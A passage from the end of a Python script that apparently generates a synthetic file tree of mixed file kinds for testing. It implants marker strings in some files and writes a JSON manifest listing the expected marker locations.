        elif kind == "note":
            data = writer.note(size).encode()
        elif kind == "plist":
            data = writer.plist(size).encode()
        elif kind == "xml":
            data = writer.xml(size).encode()
        elif kind == "blob":
            data = writer.blob(size)
        elif kind == "macho":
            data = writer.macho(size)
        elif kind == "fat":
            data = writer.fat(size)
        elif kind.startswith("large-"):
            data = writer.large(kind[6:], size)
        else:
            data = b""
        if marker is not None:
            data = implant(marks, data, kind, marker)
            expected.append([marker[0], path])
        with open(os.path.join(partial, path), "wb") as f:
            f.write(data)
        total += len(data)
    os.rename(partial, out)

    kinds = {}
    for _, kind, _, _ in sized:
        kinds[kind] = kinds.get(kind, 0) + 1
    manifest = {
        "files": len(sized), "directories": len(tree.dirs) - 1, "bytes": total, "seed": args.seed,
        "maxDepth": max(tree.depth.values()), "kinds": dict(sorted(kinds.items())),
        "markerFiles": len(expected), "expected": sorted(expected),
    }
    with open(out + ".manifest.json", "w") as f:
        json.dump(manifest, f, indent=1, ensure_ascii=False)
        f.write("\n")
    print("tree: %d files in %d folders (up to %d deep), %.1f MiB, %d carry a marker (%s)" % (
        len(sized), len(tree.dirs) - 1, manifest["maxDepth"], total / 1048576, len(expected), out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
